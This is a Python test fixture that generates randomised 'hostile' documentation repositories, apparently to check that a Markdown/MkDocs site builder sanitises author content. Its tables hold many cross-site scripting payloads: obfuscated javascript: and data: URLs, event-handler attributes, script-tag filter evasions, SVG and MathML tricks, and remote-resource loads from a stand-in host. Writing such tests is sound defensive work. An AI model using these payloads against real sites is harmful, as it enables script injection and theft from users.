"""Hostile sources: repositories in which whatever an author writes attacks the reader.

Everything is put together at random from a grammar of pieces, and a seed gives the same
repository again. An attack that runs opens a dialog, and sets `pwned` in its window.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random

from bad_sources import CORPUS

ROOT = Path(__file__).resolve().parent.parent

_RUN = "alert(window.pwned=1)"
_AWAY = "https://outside.example"
# A rule refuses these, and the question is then left out even of a preview.
STOPPING = ("$", "8<")

ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java&#115;cript:{_RUN}",
    f"java&#x73;cript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"java&Tab;script:{_RUN}",
    f"java&NewLine;script:{_RUN}",
    f"java\tscript:{_RUN}",
    f"javascript&#58{_RUN}",
    f"&#x01;javascript:{_RUN}",
    f"java%73cript:{_RUN}",
    f"javascript%3A{_RUN}",
    f"ｊavascript:{_RUN}",
    f"java\u200bscript:{_RUN}",
    f"\u202ejavascript:{_RUN}",
    f"java\\script:{_RUN}",
    f"javascript\\:{_RUN}",
    f"//outside.example/%0a{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"{_AWAY}/x.png",
    "//outside.example/x.png",
    "/\\outside.example/x.png",
    "../../../x",
    "#",
    "x.md",
    'https://a.example/" onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    f"https://a.example/)[x](javascript:{_RUN}",
)
_TAGS = (
    *("script", "img", "svg", "iframe", "style", "link", "base", "object", "embed"),
    *("form", "input", "video", "math", "details", "template", "b", "a", "meta"),
    *("textarea", "noscript", "title", "xmp", "plaintext", "body", "foreignObject"),
    *("svg:script", "annotation-xml", "p", "table", "select", "marquee", "x-y"),
)
_ATTRIBUTES = (
    f"onload={_RUN}",
    f"onerror={_RUN} src=x",
    f'onerror="{_RUN}" src=x',
    f"OnFocus={_RUN} autofocus tabindex=1",
    f"ontoggle={_RUN} open",
    f"onbegin={_RUN}",
    f"style='background:url({_AWAY}/x)'",
    f"style=animation-name:x onanimationstart={_RUN}",
    f"srcdoc='<script>{_RUN}</script>'",
    f"src={_AWAY}/x.js",
    f"href={_AWAY}/x.css rel=stylesheet",
    f"http-equiv=refresh content='0;url={_AWAY}'",
    f"href=javascript:{_RUN}",
    f"xlink:href=javascript:{_RUN}",
    f"action=javascript:{_RUN}",
    f"formaction=javascript:{_RUN}",
    f"data=javascript:{_RUN}",
    f"poster={_AWAY}/x srcset={_AWAY}/y",
    "id=__config class=md-search",
    "markdown=1",
    "",
)
_FREE = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\n>{_RUN}</script\n>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"\\<script>{_RUN}\\</script>",
    f"`<script>{_RUN}</script>`",
    f"``` <script>{_RUN}</script> ```",
    f"<!-- --><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->",
    f"<!-- --!><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"]]><script>{_RUN}</script>",
    f"<?x <script>{_RUN}</script>?>",
    f"<!DOCTYPE x [<script>{_RUN}</script>",
    f"<a href=x onclick={_RUN}",
    f"<img src=x onerror={_RUN}//",
    f"'\"><img src=x onerror={_RUN}>",
    f"'\" onfocus={_RUN} autofocus x='\"",
    f"</title></textarea></style></noscript><img src=x onerror={_RUN}>",
    f"</p></article></main><svg onload={_RUN}>",
    f"<style>@import '{_AWAY}/x.css';</style>",
    f"<svg><use href='{_AWAY}/x.svg#a'/><image href='{_AWAY}/x.png'/></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${alert(1)}",
    "@policy@",
    "\u202e\u2066<b>\u200b",
    f"＜script＞{_RUN}＜/script＞",
    "\\u003cscript\\u003e",
    "\u2028\u2029",
    "wzxhzdk:0 \x02wzxhzdk:1\x03 \x02klzzwxh:0000\x03",
)
_MARKS = (
    *("*", "**", "_", "`", "``", "[", "](", ")", "![", "]", "<", ">", '"', "'", "\\"),
    *("&", "&lt", ";", "#", "{", "}", "{:", "=", "|", "!", "-->", "<!--", "[@", "\n"),
    *("\n\n", "\n\n    ", "\n- ", "\n> ", "\n===\n", "\n---\n", "\n1. ", "[a]: ", "//"),
    *("\n```\n", "\n~~~\n", "[TOC]", "gnomon", "晷针", "solar time", "x", " ", "://"),
)
_LISTS = (
    f"{{ onclick={_RUN} }}",
    f"{{: onclick={_RUN} }}",
    f'{{ style="background:url({_AWAY}/x)" }}',
    f"{{ href=javascript:{_RUN} }}",
    f"{{: src={_AWAY}/x.png srcset={_AWAY}/y.png }}",
    f"{{ data-toc-label='<img src=x onerror={_RUN}>' }}",
    "{ #__config .md-search data-md-component=search }",
    f"{{ .term aria-describedby='\"><img src=x onerror={_RUN}>' }}",
    f'{{ #x"onclick={_RUN} }}',
    "{.computed onclick=alert(1)}",
)
_FORMULAS = (
    f"$\\text{{<img src=x onerror={_RUN}>}}$",
    "$a<b>c$",
    "$\\operatorname{<script>}$",
    "$\\text{</annotation></semantics></math><b>}$",
    "$\\text{]]>--><!--}$",
)
_DRAWING = (
    f"<script>{_RUN}</script>",
    f"<rect onclick='{_RUN}' width='9' height='9'/>",
    f"<animate onbegin='{_RUN}' attributeName='x' dur='1s'/>",
    f"<a href='javascript:{_RUN}'><text>x</text></a>",
    f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{_AWAY}'/>"
    "</foreignObject>",
    f"<image href='{_AWAY}/x.png' width='9' height='9'/>",
    f"<use href='{_AWAY}/x.svg#a'/>",
    f"<style>@import '{_AWAY}/x.css'; rect {{ fill: url({_AWAY}/y) }}</style>",
    f"<rect style='fill:url({_AWAY}/z)' fill='url({_AWAY}/f)'/>",
    f"<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{_RUN}</h:script>",
    f"<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='{_RUN}'/>",
    "<text>&lt;script&gt;</text>",
    "<text><![CDATA[<script>alert(1)</script>]]></text>",
    f"<title>x</title><desc>&lt;img src=x onerror={_RUN}&gt;</desc>",
    "<!-- --><rect id='__config'/>",
    "<text>",
)


class Grammar:
    """Puts attacks together; every choice comes from one seed."""

    def __init__(self, seed: int) -> None:
        self.random = Random(seed)

    def pick(self, *tables: tuple[str, ...]) -> str:
        """Return one of the pieces in the tables."""
        return self.random.choice(self.random.choice(tables))

    def tag(self) -> str:
        """Return an HTML tag, whole or nearly."""
        name, attributes = self.pick(_TAGS), self.pick(_ATTRIBUTES)
        name = self.random.choice((name, name, name.upper(), f"/{name}"))
        gap = self.random.choice((" ", "/", "\t", "  "))
        return f"<{name}{gap}{attributes}{self.random.choice(('>', '>', '/>', ''))}"

    def link(self) -> str:
        """Return something that is, or nearly is, a link or an image."""
        address, text = self.pick(ADDRESSES), self.pick(_FREE, _MARKS, ("x",))
        form = self.random.choice(
            (
                "[x]({})",
                "[{1}]({0})",
                "[x](<{}>)",
                "![x]({})",
                '[x]({} "{1}")',
                "<{}>",
                "[x][a]\n\n[a]: {}\n",
                "[a]\n\n[a]: <{}> '{1}'\n",
                "[![x]({0})]({0})",
                "[x]({}){1}",
            )
        )
        return form.replace("{}", "{0}").format(address, text)

    def attack(self) -> str:
        """Return one attack in any form."""
        kind = self.random.randrange(8)
        if kind < 2:
            return self.tag()
        if kind < 4:
            return self.link()
        if kind < 5:
            word = self.random.choice(("*x*", "[x](x.md)", "`x`", "x\n", "# x ", "x"))
            return word + self.pick(_LISTS)
        if kind < 6:
            size = self.random.randint(2, 9)
            tables = (_MARKS, _MARKS, _FREE, ADDRESSES, _LISTS)
            return "".join(self.pick(*tables) for _ in range(size))
        return self.pick(_FREE)

    def line(self, size: int = 2) -> str:
        """Return attacks on one line, in which nothing stops the whole question."""
        text = " ".join(self.attack() for _ in range(size))
        text = " ".join(text.split())
        for stopping in STOPPING:
            text = text.replace(stopping, "")
        # No XML can hold these; a feed with them would not be read at all.
        return re.sub(r"[\x00-\x1f]", "", text).strip() or "x"

    def block(self, size: int = 4) -> str:
        """Return attacks in paragraphs, lists, tables and headings."""
        parts = []
        for _ in range(size):
            frame = self.random.choice(
                (
                    "{}",
                    "{}",
                    "- {0}\n- {0}",
                    "> {}",
                    "### {0} {{ #a{1} }}",
                    "| {0} |\n|:-:|\n| {0} |",
                    "    {}",
                    "```text\n{}\n```",
                    "```{}\nx\n```",
                    "1. {}",
                    "word [@brook1998, {}]",
                    "`{0}`{{.computed}}",
                )
            )
            form = frame.replace("{}", "{0}")
            parts.append(form.format(self.attack(), self.random.randrange(1000)))
            if self.random.random() < 0.2:
                parts.append(f"a {self.pick(_FORMULAS)} b")
        text = "\n\n".join(parts)
        return text.replace("8<", "").replace("${", "{")

    def drawing(self) -> str:
        """Return an SVG with an attack in it."""
        content = "\n".join(self.pick(_DRAWING) for _ in range(2))
        return (
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" class="drawing">'
            f"\n<title>x</title>\n{content}\n</svg>\n"
        )


def write_repository(root: Path, seed: int, count: int) -> None:
    """Write a repository with `count` hostile questions, and two that are not."""
    write_base(root)
    grammar = Grammar(seed)
    docs = root / "docs"
    for number in range(count):
        _write_question(docs, grammar, 100 + number)
    _write_registers(docs, grammar)


def write_base(root: Path) -> None:
    """Write a repository of two questions that are not hostile, and every page."""
    root.mkdir(parents=True)
    shutil.copy(ROOT / "mkdocs.yml", root)
    (root / "hooks").symlink_to(ROOT / "hooks")
    shutil.copytree(CORPUS / "docs", root / "docs")
    shutil.copytree(ROOT / "docs/assets", root / "docs/assets")
    for name in ("glossary", "errata", "map"):
        shutil.copy(ROOT / f"docs/pages/{name}.md", root / "docs/pages")


def _write_question(docs: Path, grammar: Grammar, id: int) -> None:
    slug = f"attack-{id}"
    for language in ("zh", "en"):
        drawing = docs / f"figures/{slug}.{language}.svg"
        drawing.write_text(grammar.drawing(), "utf-8")
    program, output = f"print({grammar.line()!r})\n", grammar.line() + "\n"
    (docs / f"examples/{slug}.py").write_text(program, "utf-8")
    (docs / f"examples/{slug}.out").write_text(output, "utf-8")
    keywords = (
        f"  {language}: [{', '.join(_yaml(grammar.line()) for _ in range(5))}]\n"
        for language in ("zh", "en")
    )
    text = (
        f"---\nid: {id}\nlevel: 1\nrelated: [sundial-noon]\nprerequisites: []\n"
        f"keywords:\n{''.join(keywords)}published: 2026-01-10\nrevised: 2026-02-20\n"
        "reviewed: 2026-02-21\n---\n"
    )
    for language in ("zh", "en"):
        text += f"<!-- {language} -->\n{_edition(grammar, slug, language)}\n"
    path = docs / f"questions/shadows/{slug}.md"
    path.write_text(text, "utf-8", newline="\n")


def _edition(grammar: Grammar, slug: str, language: str) -> str:
    figure = f"../../figures/{slug}.{language}.svg"
    return f"""\
# Attack {grammar.line(1)}

The gnomon 晷针 of solar time {grammar.line()}

![{grammar.line(1)}]({figure} "{grammar.line(1)}"){{ #fig-x }}

## Work it out {{ #example }}

```python
--8<-- "{slug}.py"
```

```text
--8<-- "{slug}.out"
```

## Explanation {grammar.line(1)} {{ #explain }}

{grammar.block()}

## Pitfalls {{ #pitfalls }}

{grammar.block()}

## Follow-ups {{ #follow-ups }}

Cited [@brook1998] and [@attack1; @attack2, {grammar.line(1)}].

{grammar.block()}
"""


def _write_registers(docs: Path, grammar: Grammar) -> None:
    """Make the registers hostile, each so that it can be read."""

    def add(name: str, entries: Iterator[object]) -> None:
        with (docs / name).open("a", encoding="utf-8") as file:
            for entry in entries:
                # JSON is YAML, and says what it likes in escapes.
                file.write(f"- {json.dumps(entry)}\n")

    def both(make: Callable[[], object]) -> dict[str, object]:
        return {"zh": make(), "en": make()}

    topics = [
        {
            "id": f"attack-{number}",
            **both(lambda: {"title": grammar.line(1), "description": grammar.line()}),
        }
        for number in range(2)
    ]
    (docs / "topics.yml").write_text(
        "".join(
            f"- {json.dumps({**topic, 'id': id})}\n"
            for id, topic in zip(("shadows", "water"), topics, strict=True)
        ),
        "utf-8",
    )
    add(
        "glossary.yml",
        (
            {
                "id": f"attack-{number}",
                **both(
                    lambda number=number: {  # type: ignore[misc]
                        "term": f"{number} {grammar.line(1)}",
                        "avoid": [grammar.line(1)],
                        "definition": grammar.line(),
                        "usage": grammar.line(),
                    }
                ),
            }
            for number in range(4)
        ),
    )
    glossary = (docs / "glossary.yml").read_text("utf-8")
    for before in ("日晷上投下影子的那根杆", "The rod of a sundial that casts"):
        assert before in glossary
    lines = [
        f"    definition: {json.dumps(grammar.line())}"
        if line.startswith("    definition:")
        else line
        for line in glossary.split("\n")
    ]
    (docs / "glossary.yml").write_text("\n".join(lines), "utf-8")
    add("names.yml", (f"{number} {grammar.line(1)}" for number in range(3)))
    (docs / "synonyms.yml").write_text("")
    add(
        "synonyms.yml",
        (
            {
                "zh": [f"攻{number} {grammar.line(1)}"],
                "en": [f"attack{number} {grammar.line(1)}"],
            }
            for number in range(3)
        ),
    )
    errata = (docs / "errata.yml").read_text("utf-8").split("\n")
    (docs / "errata.yml").write_text(
        "\n".join(
            f"{line.split(':')[0]}: {json.dumps(grammar.line())}"
            if line.lstrip().startswith(("claim:", "truth:"))
            else line
            for line in errata
        ),
        "utf-8",
    )
    with (docs / "sources.bib").open("a", encoding="utf-8") as file:
        for number in (1, 2):
            fields = {
                "author": f"{_bibtex(grammar)} and {_bibtex(grammar)}",
                "title": _bibtex(grammar),
                "journal": _bibtex(grammar),
                "year": grammar.random.choice(("1999", _bibtex(grammar))),
                grammar.random.choice(("url", "doi")): _address(grammar),
            }
            content = "".join(f"  {key} = {{{it}}},\n" for key, it in fields.items())
            file.write(f"@article{{attack{number},\n{content}}}\n")


def _bibtex(grammar: Grammar) -> str:
    """Return attacks that leave the entry's braces whole."""
    return "".join(c for c in grammar.line(1) if c not in '{}"@\\#%=').strip() or "x"


def _address(grammar: Grammar) -> str:
    address = "".join(c for c in grammar.pick(ADDRESSES) if c not in '{}"=\\#%')
    return grammar.random.choice((address, f"https://a.example/{address}"))


def _yaml(text: str) -> str:
    return json.dumps(text)
